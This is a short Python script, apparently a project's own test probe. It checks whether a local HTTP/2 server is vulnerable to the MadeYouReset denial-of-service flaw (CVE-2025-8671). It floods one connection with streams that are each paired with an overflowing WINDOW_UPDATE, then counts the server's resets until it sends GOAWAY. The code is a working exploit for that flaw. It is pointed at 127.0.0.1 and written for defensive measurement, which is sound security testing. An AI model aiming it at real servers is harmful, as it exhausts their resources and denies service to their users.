#!/usr/bin/env python3
"""MadeYouReset probe (CVE-2025-8671), for measuring, not part of `make test` (HTTP2ResetTests
tests the same): on one h2c connection to 127.0.0.1:PORT, opens streams for PATH 50 at a time, each
followed by a WINDOW_UPDATE that overflows its window, so that the server resets every one; counts
the server's RST_STREAMs until its GOAWAY (or 50,000 streams) and prints the GOAWAY and the time.

    python3 Scripts/madeyoureset-probe.py PORT '/api/emoji/stream?count=100&interval_ms=1000'
"""
import socket, struct, sys, time
port, path = int(sys.argv[1]), sys.argv[2]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_string(text):
    return bytes([len(text)]) + text


# :method GET, :scheme http, :path PATH, :authority localhost
block = b"\x82\x86" + b"\x04" + hpack_string(path.encode()) + b"\x01" + hpack_string(b"localhost")
s = socket.create_connection(("127.0.0.1", port)); s.settimeout(10)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
buf = b""; resets = 0; goaway = None; sid = 1; start = time.time(); closed = False
while sid < 100000 and goaway is None and not closed:
    out = b""
    for _ in range(50):
        out += frame(1, 5, sid, block) + frame(8, 0, sid, struct.pack(">I", 0x7fffffff)); sid += 2
    try: s.sendall(out)
    except OSError: break
    target = resets + 50
    while resets < target and goaway is None:
        try: d = s.recv(65536)
        except OSError: closed = True; break
        if not d: closed = True; break
        buf += d
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n: break
            t = buf[3]; p = buf[9:9+n]; buf = buf[9+n:]
            if t == 3: resets += 1
            if t == 7: goaway = (int.from_bytes(p[4:8], "big"), p[8:].decode(errors="replace"))
print("streams opened %d, server resets %d, goaway %s, %.2f s" % ((sid - 1) // 2, resets, goaway, time.time() - start))
